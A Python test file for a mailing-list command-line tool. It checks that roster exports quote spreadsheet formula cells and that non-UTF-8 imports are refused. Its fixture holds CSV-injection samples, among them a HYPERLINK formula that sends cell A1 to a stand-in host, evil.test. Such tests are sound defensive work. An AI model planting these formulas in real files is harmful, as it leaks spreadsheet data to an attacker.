# SPDX-License-Identifier: Apache-2.0
"""Rosters through the real ``listserv members`` command: an export a spreadsheet opens
runs no formula, and an import that is not UTF-8 stores nothing (issue #14, item 9)."""

import json
import subprocess
from pathlib import Path

from tests.helpers import LISTSERV, run_listserv

OPS = "ops@example.com"
# Names and addresses a spreadsheet would run as formulas (OWASP, "CSV Injection").
ROSTER = ('name,address\n"=HYPERLINK(""http://evil.test/?""&A1,""Click"")",eve@example.org\n'
          "+1 555 0100,plus@example.org\n-2,minus@example.org\n@SUM(A1),at@example.org\n"
          "''=quoted,quote@example.org\nAlice,=alice@example.org\n")


def listserv(env: dict[str, str], *args: str) -> tuple[int, str, str]:
    done = run_listserv(*args, env=env)
    return done.returncode, done.stdout, done.stderr


def members(env: dict[str, str], address: str) -> list[tuple[str, str]]:
    code, out, err = listserv(env, "members", "list", address, "--json")
    assert code == 0, err
    return [(member["display_name"], member["address"]) for member in json.loads(out)]


def test_an_export_quotes_every_cell_a_spreadsheet_would_run_and_imports_back_the_same(
        cli_env: dict[str, str], tmp_path: Path) -> None:
    roster = tmp_path / "roster.csv"
    roster.write_text(ROSTER, encoding="utf-8")
    for address in (OPS, "copy@example.com"):
        assert listserv(cli_env, "lists", "create", address)[0] == 0
    assert listserv(cli_env, "members", "import", OPS, str(roster))[0] == 0
    code, exported, _ = listserv(cli_env, "members", "export", OPS)
    assert code == 0
    cells = [cell for line in exported.splitlines()[1:] for cell in line.split(",", 1)]
    assert not [cell for cell in cells if cell.lstrip('"').startswith(("=", "+", "-", "@"))]
    assert "'@SUM(A1),at@example.org" in exported.splitlines()
    assert "''=quoted,quote@example.org" in exported.splitlines()
    assert "Alice,'=alice@example.org" in exported.splitlines()
    copied = tmp_path / "export.csv"
    assert listserv(cli_env, "members", "export", OPS, str(copied))[0] == 0
    assert listserv(cli_env, "members", "import", "copy@example.com", str(copied))[0] == 0
    assert members(cli_env, "copy@example.com") == members(cli_env, OPS)
    assert ("'=quoted", "quote@example.org") in members(cli_env, OPS)
    assert ('=HYPERLINK("http://evil.test/?"&A1,"Click")', "eve@example.org") in \
        members(cli_env, OPS)


def test_an_import_that_is_not_utf8_is_refused_by_line_and_stores_nothing(
        cli_env: dict[str, str], tmp_path: Path) -> None:
    roster = tmp_path / "latin1.csv"
    roster.write_bytes("name,address\nAlice,alice@example.org\nRené,rene@example.org\n"
                       "Bob,bob@example.org\n".encode("latin-1"))
    assert listserv(cli_env, "lists", "create", OPS)[0] == 0
    code, _, err = listserv(cli_env, "members", "import", OPS, str(roster))
    assert code == 1
    assert err.strip() == (f"listserv: error: {roster}: line 3 is not UTF-8 text; nothing was "
                           "imported (save the file as UTF-8)")
    assert members(cli_env, OPS) == []
    utf16 = "bob@example.org\n".encode("utf-16")  # from standard input
    done = subprocess.run([LISTSERV, "members", "import", OPS, "-"], env=cli_env, input=utf16,
                          capture_output=True, timeout=60, check=False)
    assert (done.returncode, done.stderr.decode().strip()) == (
        1, "listserv: error: -: line 1 is not UTF-8 text; nothing was imported "
           "(save the file as UTF-8)")
    assert members(cli_env, OPS) == []
